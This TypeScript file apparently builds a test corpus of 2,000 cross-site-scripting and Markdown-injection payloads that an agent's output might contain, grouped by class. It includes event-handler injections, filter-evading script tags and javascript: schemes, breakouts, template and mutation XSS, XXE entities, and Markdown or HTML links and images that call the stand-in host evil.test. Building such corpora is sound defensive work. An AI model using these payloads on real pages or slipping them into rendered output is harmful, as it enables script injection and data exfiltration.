// What an agent may write to run code in a page, or to have the page ask for something. Made by rules; the classes are those of OWASP's
// sheets on XSS, and our own about Markdown. All call `alert(1)`, or a host that does not exist.

/** The host that nothing may ask. */
export const EVIL = "evil.test";

/** How many there are. */
export const PAYLOAD_COUNT = 2_000;

/** Each with each. */
const each = <A, B>(ones: readonly A[], others: readonly B[], join: (one: A, other: B) => string): string[] =>
  ones.flatMap((one) => others.map((other) => join(one, other)));

const EVENTS = (
  "onload onerror onclick onfocus onblur onmouseover onpointerenter onanimationstart ontransitionend ontoggle onbegin onend " +
  "onscroll onwheel onkeydown oninput onchange onpaste oncopy ondrag ondrop onplay oncanplay onresize onhashchange onpageshow"
).split(" ");

const TAGS = (
  "img svg body iframe video audio input details select textarea button form object embed marquee math style link base meta " +
  "table a div span p b x-own frameset keygen isindex template slot dialog"
).split(" ");

/** Ways to write one attribute. */
const ATTRIBUTES: readonly ((event: string) => string)[] = [
  (event) => `${event}=alert(1)`,
  (event) => `${event}="alert(1)"`,
  (event) => `${event}='alert(1)'`,
  (event) => `${event.toUpperCase()} = alert&#40;1&#41;`,
  (event) => `${event}=\`alert(1)\``,
  (event) => `/${event}=alert(1)//`,
  (event) => `\n${event}\n=\nalert(1)`,
  (event) => `\t${event}="&#97;lert(1)"`,
  (event) => `autofocus tabindex=0 id=x ${event}=alert\`1\``,
];

const handlers = each(TAGS, EVENTS, (tag, event) => {
  const write = ATTRIBUTES[(tag.length * 7 + event.length * 3) % ATTRIBUTES.length] ?? ATTRIBUTES[0];
  return `<${tag} src=x ${write?.(event)}>`;
});

const scripts = each(
  [
    "script",
    "SCRIPT",
    "ScRiPt",
    "script ",
    "script\n",
    "script/x",
    "script\u000c",
    "svg:script",
    "script x=1",
    "\u0000script",
    "scr\u0000ipt",
    "ſcript",
  ],
  [
    (tag: string) => `<${tag}>alert(1)</script>`,
    (tag: string) => `<${tag} src=https://${EVIL}/a.js></script>`,
    (tag: string) => `<${tag} src=//${EVIL}/a.js></script>`,
    (tag: string) => `<${tag} src=data:text/javascript,alert(1)></script>`,
    (tag: string) => `<${tag} type=module>import "https://${EVIL}/m.js"</script>`,
    (tag: string) => `<<${tag}>alert(1)//<</script>`,
    (tag: string) => `<scr<${tag}>ipt>alert(1)</scr</script>ipt>`,
    (tag: string) => `<${tag}>alert(1)`,
    (tag: string) => `</title></textarea></style><${tag}>alert(1)</script>`,
  ],
  (tag, write) => write(tag),
);

/** Schemes that run code, in the ways that filters miss. */
const SCHEMES = [
  ...[
    "javascript",
    "vbscript",
    "livescript",
    "data:text/html,",
    "jar",
    "feed:javascript",
    "view-source:javascript",
  ],
].flatMap((scheme) => {
  const half = Math.floor(scheme.length / 2);
  const [head, tail] = [scheme.slice(0, half), scheme.slice(half)];
  return [
    `${scheme}:alert(1)`,
    `${scheme.toUpperCase()}:alert(1)`,
    ` ${scheme}:alert(1)`,
    `\u0001${scheme}:alert(1)`,
    `${head}\t${tail}:alert(1)`,
    `${head}\n${tail}:alert(1)`,
    `${head}\u0000${tail}:alert(1)`,
    `${head}&Tab;${tail}&colon;alert(1)`,
    `${head}&#10;${tail}&#58;alert(1)`,
    `${head}&#x0A;${tail}&#x3A;alert(1)`,
    `${head}%0A${tail}:alert(1)`,
    `${head}\\${tail}:alert(1)`,
    `${head}\u200b${tail}:alert(1)`,
    `${scheme}\\:alert(1)`,
    `${scheme}://%0Aalert(1)`,
    `${scheme}://example.com/%0Aalert(1)`,
    `${scheme}:alert(1)//https://example.com/`,
    `${scheme}:/*https://example.com/*/alert(1)`,
  ];
});

const OUTSIDE = [
  `https://${EVIL}/a.png`,
  `HTTPS://${EVIL}/a.png`,
  `http://${EVIL}/a.png`,
  `//${EVIL}/a.png`,
  `\\\\${EVIL}\\a.png`,
  `/\\${EVIL}/a.png`,
  `https:${EVIL}/a.png`,
  `https:///${EVIL}/a.png`,
  `https://example.com@${EVIL}/a.png`,
  `https://${EVIL}%2f@example.com/a.png`,
  `https://${EVIL}#@example.com/`,
  `ftp://${EVIL}/a`,
  `ws://${EVIL}/a`,
  `blob:https://${EVIL}/a`,
  `file://${EVIL}/a`,
  `https://еvil.test/a.png`,
];

const DATA = [
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://${EVIL}/i.png'/></svg>`,
  "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=",
  "data:image/png,<script>alert(1)</script>",
  'data:image/png;base64,AAAA"onerror="alert(1)',
  "data:image/png;base64,AAAA' onerror='alert(1)",
  "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/>",
  "data:text/css,@import 'https://evil.test/a.css'",
  "data:,alert(1)",
  "DATA:IMAGE/SVG+XML,<svg onload=alert(1)>",
];

/** Ways to write an address in Markdown. */
const IN_MARKDOWN: readonly ((url: string) => string)[] = [
  (url) => `[a](${url})`,
  (url) => `[a](<${url}>)`,
  (url) => `[a](${url} "title")`,
  (url) => `![a](${url})`,
  (url) => `[![a](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `[a][b]\n\n[b]: ${url}`,
  (url) => `**[*a*](${url})**`,
  (url) => `| [a](${url}) |\n|---|\n| ![b](${url}) |`,
  (url) => `> - [a](${url})`,
  (url) => `[${url}](${url})`,
  (url) => `see ${url}, and`,
];

/** Ways to write an address in HTML. */
const IN_HTML: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">a</a>`,
  (url) => `<img src='${url}'>`,
  (url) => `<img srcset="${url} 2x">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button formaction="${url}">a</button></form>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel=preload as=image href="${url}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text>a</text></a><image href="${url}"/><use href="${url}"/></svg>`,
  (url) => `<video poster="${url}"><source src="${url}"><track src="${url}"></video>`,
  (url) => `<style>@import "${url}"; * { background: url(${url}) }</style>`,
  (url) => `<p style="background:url('${url}')">`,
  (url) => `<table background="${url}"><td background="${url}">`,
  (url) => `<a ping="${url}" href=#>a</a>`,
  (url) => `<input type=image src="${url}">`,
];

/** Texts that leave an attribute, an element or a string. */
const breakouts = each(
  [
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</code></pre>",
    "\\x3c/script\\x3e",
    "\u2028",
    "*/",
    "}}",
    "%>",
  ],
  [
    "<img src=x onerror=alert(1)>",
    " onmouseover=alert(1) x=",
    ";alert(1);//",
    "-alert(1)-",
    "<svg/onload=alert(1)>",
    "<script>alert(1)</script>",
    `<img src=https://${EVIL}/b.png>`,
  ],
  (end, rest) => end + rest,
);

const templates = [
  "{{constructor.constructor('alert(1)')()}}",
  "{{alert(1)}}",
  "\u0024{alert(1)}",
  "#{alert(1)}",
  "<%= alert(1) %>",
  "{%raw%}{{alert(1)}}{%endraw%}",
  "[[\u0024{alert(1)}]]",
  "<div v-html='alert(1)' ng-app x-data='alert(1)' @click='alert(1)' :onclick='alert(1)'>",
  '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "dangerouslySetInnerHTML",
  "innerHTML",
  "srcdoc",
  "expression(alert(1))",
  `url(https://${EVIL}/u.png)`,
  `;background:url(https://${EVIL}/s.png);`,
  "\\65xpression(alert(1))",
  "-moz-binding:url(x)",
  "<xml><x:include href='https://evil.test/'/></xml>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://evil.test/y'>]><x>&y;</x>",
];

/** HTML that a parser changes while it reads it. */
const mutations = each(
  [
    "svg",
    "math",
    "noscript",
    "title",
    "style",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "select",
    "table",
    "template",
    "plaintext",
    "listing",
  ],
  [
    (tag: string) => `<${tag}><p><style><!--</style><img title="--><img src=x onerror=alert(1)>">`,
    (tag: string) => `<${tag}><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></${tag}>`,
    (tag: string) => `<${tag}><p title="</${tag}><img src=x onerror=alert(1)>">`,
    (tag: string) => `<${tag}></p><${tag}><img src onerror=alert(1)>`,
    (tag: string) => `<${tag}><foreignObject><iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;">`,
    (tag: string) => `<a><${tag}><a><img src=x onerror=alert(1)>`,
  ],
  (tag, write) => write(tag),
);

const HTML = [
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<script>alert(1)</script>",
  `<img src=https://${EVIL}/m.png>`,
];

/** Places in Markdown where HTML might be let through. */
const inMarkdown = each(
  HTML,
  [
    (html: string) => html,
    (html: string) => `text ${html} text`,
    (html: string) => `# ${html}`,
    (html: string) => `- ${html}`,
    (html: string) => `- [ ] ${html}`,
    (html: string) => `> ${html}`,
    (html: string) => `\`\`\`${html}\n${html}\n\`\`\``,
    (html: string) => `\`\`\`html\n${html}`,
    (html: string) => `    ${html}`,
    (html: string) => `\`${html}\``,
    (html: string) => `\`\` ${html}`,
    (html: string) => `| ${html} | b |\n|---|---|\n| ${html} | ${html} |`,
    (html: string) => `| a |\n|${html}---|`,
    (html: string) => `[${html}](https://example.com)`,
    (html: string) => `![${html}](data:image/png;base64,AAAA)`,
    (html: string) => `[a](https://example.com "${html}")`,
    (html: string) => `[a](https://example.com/${html.replaceAll(" ", "%20")})`,
    (html: string) => `**${html}** _${html}_ ~~${html}~~`,
    (html: string) => `\n\n${html}\n\n<div>\n\n${html}\n\n</div>`,
    (html: string) => `<!-- ${html} -->`,
    (html: string) => `\\${html}`,
    (html: string) => html.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
    (html: string) => html.replaceAll("<", "&#60;").replaceAll(">", "&#x3e;"),
    (html: string) => html.replaceAll("<", "&amp;lt;"),
    (html: string) => html.replaceAll("<", "\\u003c"),
    (html: string) => html.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
    (html: string) => html.replaceAll("<", "%3C"),
    (html: string) => html.replaceAll("<", "+ADw-"),
    (html: string) => `@@ -1 +1 @@ ${html}\n-${html}\n+${html}`,
    (html: string) => `[^1]\n\n[^1]: ${html}`,
    (html: string) => `${html.slice(0, 5)}\n${html.slice(5)}`,
    (html: string) => `${html.slice(0, 5)}\u0000${html.slice(5)}`,
  ],
  (html, write) => write(html),
);

/** The classes, each with all that its rules make. */
export const PAYLOAD_CLASSES: Readonly<Record<string, readonly string[]>> = {
  handlers,
  scripts,
  "schemes that run code, in Markdown": each(SCHEMES, IN_MARKDOWN, (url, write) => write(url)),
  "schemes that run code, in HTML": each(SCHEMES, IN_HTML, (url, write) => write(url)),
  "schemes that run code": SCHEMES,
  "addresses outside, in Markdown": each(OUTSIDE, IN_MARKDOWN, (url, write) => write(url)),
  "addresses outside, in HTML": each(OUTSIDE, IN_HTML, (url, write) => write(url)),
  "addresses outside": OUTSIDE,
  "data addresses": [
    ...DATA,
    ...each(DATA, IN_MARKDOWN, (url, write) => write(url)),
    ...each(DATA, IN_HTML, (url, write) => write(url)),
  ],
  breakouts,
  templates,
  mutations,
  "HTML in Markdown": inMarkdown,
};

/** 2,000 payloads. */
export const PAYLOADS: readonly string[] = somePayloads(PAYLOAD_COUNT);

/** So many payloads: all of the small classes, and as many of the large ones as fit, spread over the class. */
export function somePayloads(count: number): readonly string[] {
  return chosen(Object.values(PAYLOAD_CLASSES).map(unique), count);
}

function unique(texts: readonly string[]): readonly string[] {
  return [...new Set(texts)];
}

function chosen(classes: readonly (readonly string[])[], count: number): readonly string[] {
  const payloads = new Set<string>();
  const bySize = [...classes].sort((one, other) => one.length - other.length);
  for (const [at, all] of bySize.entries()) {
    const fresh = all.filter((payload) => !payloads.has(payload));
    const fair = Math.ceil((count - payloads.size) / (bySize.length - at));
    const step = Math.max(1, fresh.length / fair);
    for (let place = 0; place < fresh.length && payloads.size < count; place += step) {
      payloads.add(fresh[Math.floor(place)] ?? "");
    }
  }
  return [...payloads];
}
